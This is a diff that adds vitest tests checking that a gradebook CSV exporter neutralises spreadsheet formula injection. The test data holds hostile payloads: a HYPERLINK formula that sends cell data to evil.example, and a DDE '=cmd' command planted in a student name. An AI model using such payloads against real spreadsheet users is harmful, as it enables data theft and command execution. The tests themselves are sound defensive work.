@@ -1,5 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { attachmentDisposition, csvField, encodeCsv } from "@/lib/gradebook/csv";
+import type { Gradebook } from "@/lib/gradebook/load-gradebook";
+import { gradebookCsv, type GradebookCsvLabels } from "@/lib/gradebook/gradebook-csv";
 
 describe("CSV encoding", () => {
   it("starts with a UTF-8 BOM and ends every row with CRLF", () => {
@@ -19,6 +21,75 @@ describe("CSV encoding", () => {
     expect(csvField("two\nlines")).toBe('"two\nlines"');
     expect(csvField("cr\r")).toBe('"cr\r"');
     expect(csvField("")).toBe("");
+  });
+});
+
+describe("CSV formula injection (OWASP)", () => {
+  // Each character a spreadsheet reads as the start of a formula, or skips before one.
+  const triggers = ["=", "+", "-", "@", "\t", "\r"];
+
+  it.each(triggers.map((c) => [JSON.stringify(c), c]))(
+    "prefixes text starting with %s with a single quote and quotes the cell",
+    (_shown, c) => {
+      const payload = `${c}HYPERLINK("http://evil.example/?"&A1,"Click")`;
+      expect(csvField(payload)).toBe(`"'${payload.replaceAll('"', '""')}"`);
+      expect(csvField(`${c}1+1`)).toBe(`"'${c}1+1"`);
+    },
+  );
+
+  it("leaves text with a trigger character later on, and the app's numbers (negative ones too), as they were", () => {
+    expect(csvField("Jean-Luc")).toBe("Jean-Luc");
+    expect(csvField("a=b")).toBe("a=b");
+    expect(csvField("ann@example.com")).toBe("ann@example.com");
+    expect(csvField(87.5)).toBe("87.5");
+    expect(csvField(-1)).toBe("-1");
+    expect(csvField(0)).toBe("0");
+    expect(csvField(Number.NaN)).toBe("");
+  });
+
+  it("neutralises a hostile name and email in the gradebook file but keeps the scores numeric", () => {
+    const labels = {
+      name: "Name",
+      email: "Email",
+      status: "Status",
+      score: "Score %",
+      time: "Time",
+      submittedAt: "Submitted at",
+      late: "Late",
+      yes: "yes",
+      no: "no",
+      statuses: {
+        "not-started": "Not started",
+        "in-progress": "In progress",
+        submitted: "Submitted",
+        late: "Late",
+        missed: "Missed",
+      },
+    } satisfies GradebookCsvLabels;
+    const submittedAt = new Date("2026-11-22T10:00:00Z");
+    const book = {
+      assignment: { title: { en: "Quiz", zh: "测验" } },
+      questions: [{ id: "q1", title: "@SUM(1+1)", type: "single", facility: 1, discrimination: null }],
+      students: [
+        {
+          userId: "u1",
+          name: '=cmd|" /C calc"!A0',
+          email: "-2+3@example.com",
+          status: "submitted",
+          attempts: 1,
+          scorePercent: 100,
+          timeTakenMs: 65_000,
+          submittedAt,
+          late: false,
+          questionScores: [1],
+        },
+      ],
+    } as unknown as Gradebook;
+    const [header, row] = gradebookCsv(book, labels).split("\r\n");
+    expect(header).toBe('\uFEFFName,Email,Status,Score %,Time,Submitted at,Late,"\'@SUM(1+1)"');
+    expect(row).toBe(
+      `"'=cmd|"" /C calc""!A0","'-2+3@example.com",Submitted,100,1:05,${submittedAt.toISOString()},no,1`,
+    );
   });
 });
 
